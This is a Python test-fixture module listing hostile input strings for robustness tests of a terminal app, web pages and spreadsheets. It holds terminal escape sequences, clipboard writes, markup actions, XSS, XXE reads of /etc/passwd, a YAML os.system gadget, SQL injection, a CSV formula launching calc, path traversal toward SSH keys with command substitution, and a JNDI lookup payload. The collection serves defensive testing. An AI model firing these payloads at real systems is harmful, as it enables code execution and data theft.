"""200 texts that a terminal, the app, a page or a spreadsheet could take for more than text. The one list of all tests and of `bench/`.

    families()       family to its texts, each by a name that says what it is
    HOSTILE          all of them by "family: name", the same ones in the same order everywhere
    spread(HOSTILE, count)   so many of them, from all families alike

Most are made by rule: every control character, every kind of escape sequence in both spellings. A text is only ever a Python string:
some of them (lone surrogates) can be in no file.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

COMMANDS = ("[31mred", "[2Jgone", "[?1049lshell", "[5iprinted")
"""After ESC, or in one C1 character: colour, empty the screen, leave the alternate one, print it."""
STRINGS = ("]0;title", "]2;title", "]8;;http://x.example", "]9;said", "]52;c;ZWNobw==", "]1337;File=inline=1:QQ==")
"""Operating system commands: titles, a link, a notice, the clipboard, a file."""
OTHER_STRINGS = ("P+q544e", "Pq#0;2;0;0;0~", "_Gi=1;QQ==", "^private", "Xany")
"""DCS (a query and a picture), APC (a picture), PM and SOS."""
FORMULA = "cmd|' /C calc'!A0"
LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""How a cell begins that a spreadsheet takes for a formula; the last four are full-width twins."""
EIGHT_BIT = {"[": "\x9b", "]": "\x9d", "P": "\x90", "_": "\x9f", "^": "\x9e", "X": "\x98"}

MARKUP = {
    "closing tags": "[/] see [/etc/passwd]",
    "actions": "[@click=app.quit]x[/] [@click='screen.leave']go[/]",
    "an action of a widget": "[@click=\"app.push_screen('x')\"]x[/]",
    "a link": "[link=http://x.example]y[/link]",
    "a link of Rich's": "[link file:///etc/passwd]y[/link]",
    "a broken tag": "[a=b:c",
    "an open tag": "[bold red",
    "a style": "[bold red on blue]x[/bold red on blue]",
    "a variable": "[$error]x[/] $error {$primary}",
    "a spinner": "[blink][reverse][conceal]x[/][/][/]",
    "an emoji code": ":warning: :police_car:",
    "escaped": "\\[bold]x\\[/bold] \\\\[/]",
    "Markdown": "# x\n[y](http://x.example) ![z](file:///etc/passwd) <http://x.example> `code`",
    "braces": "[[[[[[[[[[ ]]]]]]]]]] {{{{{{ }}}}}}",
}
HIDDEN = {
    "tags": "hidden \U000e0041\U000e0042\U000e007f",
    "a language tag": "\U000e0001\U000e0065\U000e006e x",
    "variation selectors": "x\ufe0e\ufe0f\U000e0100\U000e01ef",
    "zalgo above": "zal" + "\u0334" * 100 + "go",
    "zalgo below": "".join(letter + "\u0316\u0317\u0318\u0319\u031c\u031d\u0320\u0324" * 4 for letter in "victim"),
    "enclosing marks": "x" + "\u20dd\u20de\u20e0" * 20,
    "marks alone": "\u0301" * 50,
    "a high surrogate": "\ud800 alone",
    "a low surrogate": "alone \udfff",
    "surrogates exchanged": "\udc00\ud800",
    "noncharacters": "\uffff \ufdd0 \ufffe",
    "noncharacters beyond": "\U0001fffe \U0010ffff",
    "private use": "\ue000 \uf8ff",
    "private use beyond": "\U000f0000 \U0010fffd",
    "unassigned": "\u0378 \U0001f8ff \u2fe0",
    "spaces of no width": "a\u200bb\u2060c\ufeffd",
    "joiners": "\u200d" * 40 + "x\u200c",
    "a soft hyphen": "pass\u00adword \u00ad",
    "fillers": "\u3164\u115f\u1160\uffa0x",
    "separators": "\u2061\u2062\u2063\u2064 \u180e x",
}
SCRIPTS = {
    "Arabic": "مرحبا ابنة مريم 08:22 (V1)",
    "Hebrew": "שרה 12:30 [x]",
    "Persian": "علی‌رضا و می‌خواهم",
    "Syriac and N'Ko": "ܐܒܓܕ ߒߞߏ",
    "Hindi and Tamil": "नरेंद्र क्षत्रिय தமிழ்",
    "Thai and Burmese": "สมชาย ที่นี่ မောင်မောင်",
    "Tibetan": "བསྒྲུབས་ ཧཱུྃ",
    "Vietnamese, decomposed": "Nguye\u0302\u0303n Thi\u0323 Ho\u0300ng",
    "Yoruba and Polish": "Olúwaṣeun Łukasz Żółć",
    "Japanese and Chinese": "山田太郎 漢字かな 漢字" + "\uff8a\uff9d\uff76\uff78",
    "Korean, in parts": "\u1112\u1161\u11ab\u1100\u1173\u11af 한글",
    "full width": "ＰＣ１２３４ ［／］",
    "emoji": "👩‍👩‍👧‍👦 🏴\U000e0067\U000e0062\U000e007f 👮🏿‍♀️ 🇬🇧 1️⃣",
    "ambiguous width": "①§±×÷ΩЖ─█░…",
}
LONG = {
    "200 letters": "x" * 200,
    "201 letters": "y" * 201,
    "wide letters": "漢" * 100 + "字" * 100,
    "4,000 letters": "z" * 4000,
    "words to 4,001": ("long word " * 401)[:4001],
    "100,000 letters": "w" * 100_000,
    "10,000 lines": "a line\n" * 10_000,
}
PAGES = {
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "the end of a title": "</title><b> & \" ' ]]> -->",
    "the end of a page": "</pre></main></body></html><svg onload=alert(1)>",
    "an entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]> &y; &#27; &lt;',
    "SVG": '<a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject>',
    "CDATA": "<![CDATA[ x ]]> <?php x ?> <!-- y",
    "a style sheet": "</style><style>*{display:none}</style> url(javascript:x)",
}
DATA = {
    "JSON": '{"kind":"note-added","number":1} "},{"',
    "JSON's numbers": "NaN Infinity -Infinity 1e999 \\ud800 \\u0000",
    "TOML": 'x"""\n[local]\n[[a]]\nmarking = "OFFICIAL"\n"""',
    "YAML": "--- !!python/object/apply:os.system ['x']\n&a [*a]",
    "a line of a case": "0" * 64 + ' [{"number":1}]\n' + "0" * 64 + " []",
    "SQL": "'; DROP TABLE entries; --",
}
PATHS = {
    "above": "../../../../etc/passwd",
    "a drive": "C:\\Windows\\System32\\con",
    "a device": "NUL CON PRN AUX COM1",
    "a share": "\\\\x.example\\share\\$(whoami)",
    "a home": "~/.ssh/id_rsa `id` $(id) ${HOME} %PATH%",
    "an option": "--store=x -rf -- ;",
}
FORMATS = {
    "percent": "%s %n %x %(name)s %1000000d",
    "braces": "{title} {0.__class__} {{code}} {!r:>999999}",
    "a logger": "${jndi:ldap://x.example/a} #{7*7} {{7*7}}",
    "colours": "\\033[31m \\x1b[2J \\e]52;c;x\\a",
}
NEWLINES = {
    "of all systems": "one\ntwo\r\nthree\rfour",
    "of all kinds": "one\x0btwo\x0cthree\x1cfour\x1dfive\x1esix\x85seven\u2028eight\u2029nine",
    "nothing but": "\n\r\n\n\u2028\n",
    "over what stands there": "true text\rFALSE TEXT\b\b\b\b",
}


def sequences() -> dict[str, str]:
    """Every kind of escape sequence, in seven bits and in eight, ended by BEL or by ST."""
    found: dict[str, str] = {}
    for body in COMMANDS:
        found[f"CSI {body[1:]}, 7 bit"] = f"a\x1b{body}b"
        found[f"CSI {body[1:]}, 8 bit"] = f"a{EIGHT_BIT['[']}{body[1:]}b"
    for body in (*STRINGS, *OTHER_STRINGS):
        name = f"{body[0]} {body[1:]}"
        found[f"{name}, 7 bit"] = f"a\x1b{body}{chr(7) if body[0] == ']' else chr(27) + chr(92)}b"
        found[f"{name}, 8 bit"] = f"a{EIGHT_BIT[body[0]]}{body[1:]}\x9cb"
    return found


def families() -> Mapping[str, Mapping[str, str]]:
    """Family to its texts by name."""
    controls = {f"U+{code:04X}": f"before{chr(code)}after" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))}
    turns = (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
    return {
        "control": controls,
        "direction": {f"U+{code:04X}": f"over{chr(code)}gnirts (V1) 12:30" for code in turns},
        "sequence": sequences(),
        "markup": MARKUP,
        "hidden": HIDDEN,
        "script": SCRIPTS,
        "length": LONG,
        "formula": {f"after {lead!a}": f"{lead}{FORMULA}" for lead in LEADS},
        "page": PAGES,
        "data": DATA,
        "path": PATHS,
        "format": FORMATS,
        "newline": NEWLINES,
    }


HOSTILE: Mapping[str, str] = {f"{family}: {name}": text for family, texts in families().items() for name, text in texts.items()}
"""All of them."""

TELLING = (
    "[/] [/etc/passwd] [@click=app.quit]x[/] [a=b:c "  # markup that breaks, and an action
    "\x1b]52;c;QQ==\x07 \x1b]8;;x:y\x07 \x1b[2J \x9b31m \x90q\x9c \x00 \x08 "  # the clipboard, a link, an empty screen, DCS, NUL
    "\u202egnirts\u2066 \u200f \ud800 \ue000 \u2028 z" + "\u0334" * 20 + " 漢 👩‍👩‍👧 مريم "  # turned, halved, private, piled up
    "</title><b>& {x} %s =1"  # pages, formats, a formula
)
"""What is worst of every family in one text, short enough for a line: for tests that cannot take all of them."""


def spread(texts: Mapping[str, str], count: int) -> dict[str, str]:
    """So many of the texts, at even distances, so that every family that can be is among them."""
    names: Sequence[str] = list(texts)
    chosen = [names[place * len(names) // count] for place in range(count)] if count < len(names) else names
    return {name: texts[name] for name in chosen}
